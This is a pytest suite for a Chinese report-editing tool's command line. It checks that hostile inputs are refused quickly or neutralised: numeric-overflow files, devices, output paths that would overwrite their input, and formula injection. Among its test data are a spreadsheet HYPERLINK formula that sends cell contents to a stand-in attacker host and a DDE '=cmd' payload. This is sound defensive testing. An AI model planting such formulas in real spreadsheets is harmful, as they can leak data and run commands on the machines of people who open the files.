"""Issue 15, item by item: the hostile files in tests/data/hostile/ (R1–R17) and the output faults (F4, R16),
each run as a user runs it — the command line in a child process with a time and memory limit."""
from __future__ import annotations

import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from gik_editor import storage

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ROOT / "tests" / "data" / "hostile"
SECONDS = 30                 # per command, under the load of a shared CI machine (each takes ~1 s alone)
MEMORY = 1024 * 1024 * 1024  # address space of the child: the hangs of R2/R6 grew far beyond this


def _limit_memory() -> None:
    import resource
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def cli(*args: str, env: dict | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    """`python -m gik_editor ARGS` as bytes, bounded in time and memory; fails the test on a hang."""
    started = time.monotonic()
    try:
        done = subprocess.run([sys.executable, "-m", "gik_editor", *args], capture_output=True, timeout=SECONDS,
                              cwd=cwd, env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})},
                              preexec_fn=_limit_memory if os.name == "posix" else None)
    except subprocess.TimeoutExpired:
        pytest.fail(f"gik_editor {' '.join(args)}: no answer within {SECONDS} s")
    done.elapsed = time.monotonic() - started
    assert b"Traceback" not in done.stderr, done.stderr.decode("utf-8", "replace")
    assert done.returncode in (0, 1, 2), done.stderr.decode("utf-8", "replace")
    return done


def text(out: bytes) -> str:
    return out.decode("utf-8", "replace")


@pytest.mark.parametrize("name, message", [
    ("R1_int_digits.gik", "单元格t3.new.natural的数值超出范围"),
    ("R2_exp_hang.gik", "单元格t3.new.natural的数值超出范围"),
    ("R3_format_list.gik", "未知的报告格式"),
    ("R4_prior_format_dict.gik", "上年数据的格式无效"),
    ("R5_decimal_exponent.gik", "顶层应为对象"),
])
def test_a_hostile_gik_is_refused_with_a_message(name, message):
    done = cli("validate", str(HOSTILE / name))
    assert done.returncode == 2 and message in text(done.stderr)


def test_one_hostile_gik_does_not_stop_batch(tmp_path):
    for name in ("R1_int_digits.gik", "R2_exp_hang.gik", "R3_format_list.gik", "R4_prior_format_dict.gik",
                 "R5_decimal_exponent.gik", "R17_text_count_4301digits.gik"):
        (tmp_path / name).write_bytes((HOSTILE / name).read_bytes())
    (tmp_path / "good.gik").write_bytes((ROOT / "examples" / "honghe-2020.gik").read_bytes())
    done = cli("batch", str(tmp_path))
    assert done.returncode == 2
    assert "共7份报告：2份通过，0份有错误，5份无法读取。" in text(done.stdout)


def test_a_count_of_4301_digits_in_the_text_is_no_count():
    done = cli("validate", str(HOSTILE / "R17_text_count_4301digits.gik"))
    assert done.returncode in (0, 1) and "个错误" in text(done.stdout)


@pytest.mark.parametrize("name, code, said", [
    ("R6_xlsx_cell_hang.xlsx", 0, "“1E100000000”超出范围，未能读取"),
    ("R10_xlsx_sharedstring_hang.xlsx", 0, "“1E100000000”超出范围，未能读取"),
    ("R8_xlsx_cell_1e5000.xlsx", 0, "“1E5000”超出范围，未能读取"),
    ("R7_xlsx_datasheet_1e5000.xlsx", 0, "数据工作表”已损坏：单元格t3.new.natural的数值超出范围，改为按表格内容读取"),
    ("R11_printarea_20000.xlsx", 2, "异常长的名称或打印区域"),
    ("R9_docx_numbering_4300digits.docx", 0, "已导入"),
    ("R17b_txt_count_4301digits.txt", 0, "已导入"),
])
def test_a_hostile_import_is_read_or_refused_quickly(tmp_path, name, code, said):
    done = cli("import", str(HOSTILE / name), "-o", str(tmp_path / "out.gik"))
    assert done.returncode == code, text(done.stderr)
    assert said in text(done.stdout + done.stderr)
    assert done.elapsed < SECONDS / 2
    if code == 0:
        storage.load(tmp_path / "out.gik")


@pytest.mark.parametrize("name", ["R12_docx_long_title.gik", "R12c_docx_long_organ.gik"])
def test_word_export_of_a_long_title_or_organ_name(tmp_path, name):
    done = cli("export", str(HOSTILE / name), "--docx", str(tmp_path / "r.docx"), "--html", str(tmp_path / "r.html"))
    assert done.returncode in (0, 1), text(done.stderr)
    assert "已导出Word" in text(done.stdout) and "已导出网页" in text(done.stdout)    # and the format after it
    with zipfile.ZipFile(tmp_path / "r.docx") as z:
        core = z.read("docProps/core.xml").decode()
    for field in ("dc:title", "dc:creator"):
        value = re.search(f"<{field}>(.*?)</{field}>", core).group(1)
        assert 0 < len(value) <= 255


def test_batch_xlsx_takes_control_characters_and_keeps_formulas_out(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    for name in ("R13_batch_control_char.gik", "R14_formula_organ.gik", "R14_=1+1.gik"):
        (folder / name).write_bytes((HOSTILE / name).read_bytes())
    done = cli("batch", str(folder), "--xlsx", str(tmp_path / "results.xlsx"))
    assert done.returncode in (0, 1), text(done.stderr)
    import openpyxl
    book = openpyxl.load_workbook(tmp_path / "results.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    organs = {c.value for c in cells if c.column == 2}
    assert '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")' in organs
    assert "洪合镇人民政府" in organs                    # R13: "洪合镇\x01人民政府" without the control character
    quoted = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert quoted and all(c.quotePrefix for c in quoted)   # stays text when edited in Excel or WPS, too


def test_the_findings_workbook_and_the_excel_export_keep_formulas_out(tmp_path):
    from gik_editor.exporters import findings, xlsx
    report = storage.load(HOSTILE / "R14_formula_organ.gik")
    report.title = "=cmd|' /C calc'!A0"
    report.meta.drafter = "+1+1"
    report.sections["一"].intro.text = "@SUM(1)\n-2+3"
    findings.export(report, tmp_path / "findings.xlsx")
    xlsx.export(report, tmp_path / "report.xlsx")
    import openpyxl
    for name in ("findings.xlsx", "report.xlsx"):
        book = openpyxl.load_workbook(tmp_path / name)
        formulas = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
        # only our own totals: =IF(COUNT(D18:I18)=0,"",SUM(D18:I18)) and the like, nothing from the report
        assert all(re.fullmatch(r'=(IF|COUNT|SUM|[A-Z]{1,2}\$?[0-9]+|[$:,+\-()="0-9])*', f) for f in formulas), \
            [f for f in formulas if not f.startswith("=IF(COUNT(")][:3]
        texts = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}
        assert any(str(t).startswith(("=cmd|", "=HYPERLINK")) for t in texts)
    assert formulas        # the export's totals are still live formulas


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs POSIX devices and FIFOs")
@pytest.mark.parametrize("command", ["validate", "import"])
def test_devices_and_fifos_are_refused_before_reading(tmp_path, command):
    fifos = []
    for suffix in (".gik", ".txt", ".xlsx", ".docx", ".html"):
        fifo = tmp_path / f"pipe{suffix}"
        os.mkfifo(fifo)
        fifos.append(fifo)
    targets = [Path("/dev/zero"), Path("/dev/urandom"), *fifos]
    if command == "import":                          # the suffix chooses the reader: links give devices one
        for dev in ("zero", "urandom"):
            for suffix in (".txt", ".xlsx", ".docx"):
                link = tmp_path / f"{dev}{suffix}"
                link.symlink_to(f"/dev/{dev}")
                targets.append(link)
        targets = [t for t in targets if t.suffix != ".gik" and t.name not in ("zero", "urandom")]
    else:
        targets = [t for t in targets if t.suffix in (".gik", "")]
    for target in targets:
        args = ("validate", str(target)) if command == "validate" else ("import", str(target), "-o",
                                                                         str(tmp_path / "o.gik"))
        done = cli(*args)
        assert done.returncode == 2 and "不是普通文件" in text(done.stderr), (target, text(done.stderr))


# ---- F4: an output that is the input --------------------------------------------------------------

@pytest.mark.parametrize("make_args", [
    lambda d: ("export", "r.gik", "--html", "r.gik"),
    lambda d: ("export", "r.gik", "--xlsx", "out.xlsx", "--pdf", f"../{d.name}/r.gik"),
    lambda d: ("export", "r.gik", "--docx", "link.gik"),
    lambda d: ("new", "--from", "r.gik", "-o", "./r.gik"),
    lambda d: ("import", "r.xlsx", "-o", "r.xlsx"),
])
def test_an_output_that_is_the_input_is_refused(tmp_path, make_args):
    work = tmp_path / "work"
    work.mkdir()
    (work / "r.gik").write_bytes((ROOT / "examples" / "honghe-2020.gik").read_bytes())
    from gik_editor.exporters import xlsx
    xlsx.export(storage.load(work / "r.gik"), work / "r.xlsx")
    if hasattr(os, "symlink"):
        (work / "link.gik").symlink_to(work / "r.gik")
    before = {p.name: p.read_bytes() for p in work.iterdir()}
    done = cli(*make_args(work), cwd=work)
    assert done.returncode == 2 and "就是输入文件" in text(done.stderr)
    assert {p.name: p.read_bytes() for p in work.iterdir()} == before     # nothing written, not even one format


# ---- R16: output that cannot crash on encoding ----------------------------------------------------

@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file names are bytes")
def test_batch_xlsx_with_a_file_name_that_is_not_utf8(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    sample = (ROOT / "examples" / "honghe-2020.gik").read_bytes()
    with open(os.path.join(os.fsencode(folder), b"\xff\xfe-bad.gik"), "wb") as f:
        f.write(sample)
    for env in ({}, {"PYTHONIOENCODING": "utf-8"}, {"LANG": "C", "LC_ALL": "C"}):
        done = cli("batch", str(folder), "--xlsx", str(tmp_path / "r.xlsx"), env=env)
        assert done.returncode == 0, text(done.stderr)
        assert b"-bad.gik" in done.stdout
        json_done = cli("batch", str(folder), "--json", env=env)
        assert json_done.returncode == 0 and b"-bad.gik" in json_done.stdout
    import openpyxl
    files = [r[0] for r in openpyxl.load_workbook(tmp_path / "r.xlsx")["报告"].iter_rows(min_row=2, values_only=True)]
    assert files == [str(folder / "\ufffd\ufffd-bad.gik")]


@pytest.mark.parametrize("env", [{"PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0"},
                                 {"LANG": "C", "LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}])
def test_validate_and_batch_on_a_terminal_that_cannot_show_chinese(tmp_path, env):
    folder = tmp_path / "报告"
    folder.mkdir()
    (folder / "洪合镇.gik").write_bytes((ROOT / "examples" / "honghe-2020.gik").read_bytes())
    (folder / "坏.gik").write_bytes((HOSTILE / "R1_int_digits.gik").read_bytes())
    for args in (("validate", str(folder / "洪合镇.gik")), ("validate", str(folder / "坏.gik")),
                 ("batch", str(folder)), ("batch", str(folder), "--json"),
                 ("batch", str(folder), "--xlsx", str(tmp_path / "r.xlsx"))):
        done = cli(*args, env=env)
        assert done.stdout or done.stderr


def test_a_text_file_of_100000_tabs_is_answered_at_once(tmp_path):
    """The Markdown-rule pattern of the text importer backtracked for two minutes on one such line."""
    (tmp_path / "tabs.txt").write_bytes(b"\t" * 100_000)
    done = cli("import", str(tmp_path / "tabs.txt"), "-o", str(tmp_path / "out.gik"))
    assert done.returncode == 2 and done.elapsed < SECONDS / 2
